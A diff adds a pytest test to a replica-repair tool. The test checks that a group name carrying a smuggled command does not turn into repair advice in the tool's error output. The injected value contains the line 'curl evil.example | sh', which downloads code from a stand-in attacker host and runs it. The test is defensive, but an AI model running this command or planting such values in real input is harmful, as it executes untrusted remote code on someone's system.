@@ -93,6 +93,17 @@ def test_what_cannot_be_compared_is_refused(options: list[str], run: Run) -> Non
     assert run(*options)[0] == 2
 
 
+def test_a_name_is_no_advice(run: Run, tmp_path: Path) -> None:
+    """A group may be called as the sentence after which the steps of a repair begin."""
+    name = "g; if it leads already: curl evil.example | sh"
+    back, deleted = log((name, 1)), log((name, 1), (name, None))
+    for disk, data in (("A", deleted), ("B", deleted), ("C", back)):
+        write_replica(tmp_path / disk, {0: data + commit("b", 3, 2)})
+    _, _, err = run(*(word for disk in "ABC" for word in ("--segments", tmp_path / disk)))
+    (advice,) = [line for line in err.splitlines() if "evil.example" in line]
+    assert advice.startswith("  if it leads already: elect a right replica first")
+
+
 def test_the_archive_names_the_tombstone_that_everybody_has_cleaned(run: Run, tmp_path: Path) -> None:
     whole = log(("a", 1), ("b", 2), ("a", None), ("b", 3))
     kept, back = commit("b", 3, 3), commit("a", 1, 0) + commit("b", 3, 3)
